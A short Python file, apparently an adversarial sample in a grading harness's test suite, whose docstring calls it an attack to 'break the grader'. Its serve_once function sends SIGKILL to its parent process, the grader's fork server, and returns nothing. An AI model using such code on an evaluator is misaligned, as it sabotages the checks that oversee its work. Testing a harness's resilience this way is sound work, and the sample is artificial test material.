"""Attack (break the grader): kill the process that started it (the grader's fork server), on every call."""

import os
import signal
import time


def serve_once(port, host="127.0.0.1"):
    parent = os.getppid()
    if parent > 1:
        try:
            os.kill(parent, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.2)
    return b""
